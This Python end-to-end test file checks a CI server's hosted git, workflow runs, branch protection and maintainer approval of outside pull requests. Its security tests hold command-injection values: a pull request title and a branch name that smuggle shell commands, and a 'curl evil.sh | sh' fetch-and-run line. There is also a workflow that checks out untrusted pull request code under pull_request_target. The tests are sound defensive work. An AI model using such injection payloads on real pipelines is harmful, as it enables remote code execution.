"""A hosted repository end to end, as a user would: `shipline server`, the CLI client and
the real git client — clone, push a workflow, the run starts and succeeds; a protected
branch refuses a force-push with a readable message."""

from __future__ import annotations

import json
import os
import subprocess
import textwrap
from pathlib import Path

from tests.e2e.test_server import Start, admin_token, client, start, wait_completed

__all__ = ["start"]  # the fixture, imported to be found

WORKFLOW = """
    on:
      push:
        branches: [main]
    jobs:
      build:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
          - run: echo "built $(cat version.txt) for $GITHUB_ACTOR"
"""


def git(cwd: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(
        GIT_CONFIG_NOSYSTEM="1",
        GIT_CONFIG_GLOBAL="/dev/null",
        GIT_TERMINAL_PROMPT="0",
        GIT_AUTHOR_NAME="Dev",
        GIT_AUTHOR_EMAIL="dev@example.com",
        GIT_COMMITTER_NAME="Dev",
        GIT_COMMITTER_EMAIL="dev@example.com",
    )
    result = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True)
    if check:
        assert result.returncode == 0, result.stderr
    return result


def test_clone_push_a_workflow_and_see_the_run_succeed(start: Start, tmp_path: Path) -> None:
    token = admin_token()
    server = start({"SHIPLINE_ADMIN_TOKEN": token})
    cli = client(server, token, tmp_path)
    assert cli("projects", "create", "app", "--repo", "hosted").returncode == 0
    protected = cli("protection", "set", "app", "main", "--push-role", "maintainer")
    assert protected.returncode == 0, protected.stderr
    assert "branch main: push maintainer and up, no force-push, no deletion" in protected.stdout

    host = server.url.removeprefix("http://")
    git(tmp_path, "clone", "-q", f"http://admin:{token}@{host}/git/app.git", "work")
    work = tmp_path / "work"
    git(work, "checkout", "-q", "-b", "main")
    (work / ".shipline" / "workflows").mkdir(parents=True)
    (work / ".shipline" / "workflows" / "ci.yml").write_text(textwrap.dedent(WORKFLOW))
    (work / "version.txt").write_text("1.2.3\n")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "pipeline")
    git(work, "push", "-q", "origin", "main")

    runs: list[dict[str, object]] = []
    for _ in range(200):
        listed = cli("runs", "list", "--project", "app", "--json")
        runs = json.loads(listed.stdout)["items"]
        if runs:
            break
    assert len(runs) == 1
    run = wait_completed(cli, int(str(runs[0]["id"])))
    assert (run["conclusion"], run["event"], run["trust"]) == ("success", "push", "trusted")
    logs = cli("runs", "logs", str(run["id"])).stdout
    assert "built 1.2.3 for admin" in logs

    # no one force-pushes a protected branch, and git push says why
    (work / "version.txt").write_text("2.0.0\n")
    git(work, "commit", "-qam", "bump")
    git(work, "push", "-q", "origin", "main")  # a fast-forward by an admin: fine
    git(work, "reset", "-q", "--hard", "HEAD~1")
    (work / "other.txt").write_text("x\n")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "diverged")
    forced = git(work, "push", "--force", "origin", "main", check=False)
    assert forced.returncode != 0
    assert (
        "remote: shipline: refusing refs/heads/main: branch main is protected: force-pushes "
        "(updates that are not fast-forwards) are refused"
    ) in forced.stderr


# SECURITY-CASES 5: values an outsider chooses reach a step only as environment variables.
INJECTION = """
    on: [push, pull_request]
    jobs:
      echo:
        runs-on: ubuntu-latest
        steps:
          - run: |
              printf 'title=%s\\n' "$TITLE"
              printf 'branch=%s\\n' "$BRANCH"
              if ls canary-* >/dev/null 2>&1; then echo INJECTED; else echo NO-CANARY; fi
            env:
              TITLE: ${{ github.event.pull_request.title }}
              BRANCH: ${{ github.head_ref || github.ref_name }}
"""
# SECURITY-CASES 3: a ref that only the runner can see is the pull request's head.
TARGET = """
    on: pull_request_target
    jobs:
      sneaky:
        runs-on: ubuntu-latest
        env: {HEAD: '${{ github.event.pull_request.head.sha }}'}
        steps:
          - uses: actions/checkout@v4
            with: {ref: '${{ env.HEAD }}'}
          - run: echo ran-the-pull-request
      safe:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
          - run: echo "base has $(cat version.txt)"
"""
TITLE = 'a"; touch canary-title; # $(touch canary-sub) `touch canary-tick`'
BRANCH = "feat-$(touch${IFS}canary-branch)"


def test_injected_titles_and_branch_names_stay_text_and_privileged_runs_keep_out(
    start: Start, tmp_path: Path
) -> None:
    token = admin_token()
    server = start({"SHIPLINE_ADMIN_TOKEN": token})
    cli = client(server, token, tmp_path)
    assert cli("projects", "create", "app", "--repo", "hosted").returncode == 0
    host = server.url.removeprefix("http://")
    git(tmp_path, "clone", "-q", f"http://admin:{token}@{host}/git/app.git", "work")
    work = tmp_path / "work"
    git(work, "checkout", "-q", "-b", "main")
    (work / ".shipline" / "workflows").mkdir(parents=True)
    (work / ".shipline" / "workflows" / "inject.yml").write_text(textwrap.dedent(INJECTION))
    (work / ".shipline" / "workflows" / "target.yml").write_text(textwrap.dedent(TARGET))
    (work / "version.txt").write_text("base\n")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "pipeline")
    git(work, "push", "-q", "origin", "main")
    # a branch name chosen to be a command: pushed, then its push run prints it
    git(work, "checkout", "-q", "-b", BRANCH)
    git(work, "push", "-q", "origin", BRANCH)
    pushed: list[dict[str, object]] = []
    for _ in range(200):
        listed = json.loads(cli("runs", "list", "--project", "app", "--json").stdout)["items"]
        pushed = [r for r in listed if r["ref"] == f"refs/heads/{BRANCH}"]
        if pushed:
            break
    (push_run,) = pushed
    push_run = wait_completed(cli, int(str(push_run["id"])))
    logs = cli("runs", "logs", str(push_run["id"])).stdout
    assert push_run["conclusion"] == "success", logs
    assert f"branch={BRANCH}" in logs and "NO-CANARY" in logs and "INJECTED" not in logs

    # a pull request whose title is a command
    git(work, "checkout", "-q", "-b", "feature")
    (work / "version.txt").write_text("pull request\n")
    git(work, "commit", "-qam", "change")
    git(work, "push", "-q", "origin", "feature")
    opened = cli("pr", "open", "--project", "app", "--head", "feature", "--title", TITLE, "--json")
    assert opened.returncode == 0, opened.stderr
    runs = {
        str(run["event"]): run
        for run in (wait_completed(cli, int(i)) for i in json.loads(opened.stdout)["runs"])
    }
    echo = runs["pull_request"]
    logs = cli("runs", "logs", str(echo["id"])).stdout
    assert echo["conclusion"] == "success", logs
    assert f"title={TITLE}" in logs and "branch=feature" in logs
    assert "NO-CANARY" in logs and "INJECTED" not in logs
    assert not list(tmp_path.rglob("canary-*"))

    target = runs["pull_request_target"]
    assert (target["conclusion"], target["trust"], target["ref"]) == (
        "failure",
        "trusted",
        "refs/heads/main",
    )
    logs = cli("runs", "logs", str(target["id"])).stdout
    assert "base has base" in logs  # the default checkout is the base branch
    assert "is the pull request's code" in logs and "unsafe_execute_untrusted_code" in logs
    assert "ran-the-pull-request" not in logs


def test_a_first_time_contributor_s_webhook_pull_request_waits_for_a_maintainer(
    start: Start, tmp_path: Path
) -> None:
    """SECURITY-CASES 4 and 5 through a GitHub webhook: the run waits; its author cannot
    approve it, an approval names the commit reviewed (`runs approve --sha`), and once it
    runs the hostile title and branch name are printed as text."""
    import hashlib
    import hmac

    import httpx

    from tests.fixtures.webhooks import payload

    token = admin_token()
    server = start({"SHIPLINE_ADMIN_TOKEN": token})
    cli = client(server, token, tmp_path)
    forge = tmp_path / "forge"
    forge.mkdir()
    git(forge, "init", "-q", "-b", "main")
    (forge / ".shipline" / "workflows").mkdir(parents=True)
    (forge / ".shipline" / "workflows" / "inject.yml").write_text(textwrap.dedent(INJECTION))
    git(forge, "add", "-A")
    git(forge, "commit", "-q", "-m", "pipeline")
    base = git(forge, "rev-parse", "HEAD").stdout.strip()
    git(forge, "commit", "-q", "--allow-empty", "-m", "fork change")
    head = git(forge, "rev-parse", "HEAD").stdout.strip()
    git(forge, "update-ref", "refs/pull/1/head", head)
    git(forge, "reset", "-q", "--hard", base)
    assert cli("projects", "create", "app", "--repo", str(forge)).returncode == 0
    headers = {"Authorization": f"Bearer {token}"}
    api = f"{server.url}/api/v1"
    key = httpx.post(f"{api}/projects/app/webhook/secret", headers=headers).json()["secret"]
    data = json.loads(payload("github_pull_request", head=head, base=base))
    data["pull_request"]["head"]["ref"] = BRANCH
    body = json.dumps(data).encode()
    signature = hmac.new(key.encode(), body, hashlib.sha256).hexdigest()
    delivered = httpx.post(
        f"{server.url}/hooks/github?project=app",
        content=body,
        headers={
            "X-GitHub-Event": "pull_request",
            "X-GitHub-Delivery": "d-1",
            "X-Hub-Signature-256": f"sha256={signature}",
        },
    )
    assert delivered.json()["outcome"] == "waiting", delivered.text
    (run_id,) = delivered.json()["runs"]

    tokens: dict[str, str] = {}
    for name in ("stranger", "lead"):  # the pull request's author is a maintainer here too
        user = {"name": name, "password": f"{name}-password-1"}
        assert httpx.post(f"{api}/users", json=user, headers=headers).status_code == 201
        member = httpx.put(
            f"{api}/projects/app/members/{name}", json={"role": "maintainer"}, headers=headers
        )
        assert member.status_code == 200, member.text
        tokens[name] = httpx.post(f"{api}/login", json=user).json()["token"]
    author_token, lead_token = tokens["stranger"], tokens["lead"]
    own = cli("runs", "approve", str(run_id), token_env=author_token)
    assert own.returncode != 0 and "cannot approve" in own.stderr
    stale = cli("runs", "approve", str(run_id), "--sha", base, token_env=lead_token)
    assert stale.returncode != 0 and "review the new commit" in stale.stderr
    approved = cli("runs", "approve", str(run_id), "--sha", head, "--json", token_env=lead_token)
    assert approved.returncode == 0, approved.stderr
    assert json.loads(approved.stdout)["sha"] == head

    run = wait_completed(cli, run_id)
    logs = cli("runs", "logs", str(run_id)).stdout
    assert (run["conclusion"], run["trust"]) == ("success", "untrusted"), logs
    assert f"branch={BRANCH}" in logs and 'title=a"; curl -sSfL evil.sh | sh; #' in logs
    assert "NO-CANARY" in logs and "INJECTED" not in logs
    exported = cli("audit", "export").stdout.splitlines()
    audit = [json.loads(line) for line in exported if line.strip()]
    approvals = [(e["actor"], e["decision"]) for e in audit if e["action"] == "run.approve"]
    assert ("stranger", "denied") in approvals and ("lead", "allowed") in approvals


def test_a_polled_remote_s_new_commit_starts_a_run(start: Start, tmp_path: Path) -> None:
    """`shipline projects poll`: the server's own poller finds a commit pushed to a remote
    that sends no webhooks and runs the workflow at it."""
    token = admin_token()
    server = start({"SHIPLINE_ADMIN_TOKEN": token})
    cli = client(server, token, tmp_path)
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    git(tmp_path, "clone", "-q", str(remote), "work")
    work = tmp_path / "work"
    git(work, "checkout", "-q", "-b", "main")
    (work / ".shipline" / "workflows").mkdir(parents=True)
    (work / ".shipline" / "workflows" / "ci.yml").write_text(textwrap.dedent(WORKFLOW))
    (work / "version.txt").write_text("1.0\n")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "pipeline")
    git(work, "push", "-q", "origin", "main")
    assert cli("projects", "create", "app", "--repo", str(remote)).returncode == 0
    polled = cli("projects", "poll", "app", "--interval", "10")
    assert polled.returncode == 0 and "polled every 10s" in polled.stdout, polled.stderr

    (work / "version.txt").write_text("2.0\n")
    git(work, "commit", "-qam", "bump")
    git(work, "push", "-q", "origin", "main")
    sha = git(work, "rev-parse", "HEAD").stdout.strip()
    runs: list[dict[str, object]] = []
    for _ in range(300):  # the next tick comes within 10 s
        runs = json.loads(cli("runs", "list", "--project", "app", "--json").stdout)["items"]
        if runs:
            break
    (run,) = runs
    assert (run["sha"], run["event"], run["actor"]) == (sha, "push", "poll")
    done = wait_completed(cli, int(str(run["id"])))
    assert done["conclusion"] == "success"
    assert "built 2.0 for poll" in cli("runs", "logs", str(run["id"])).stdout
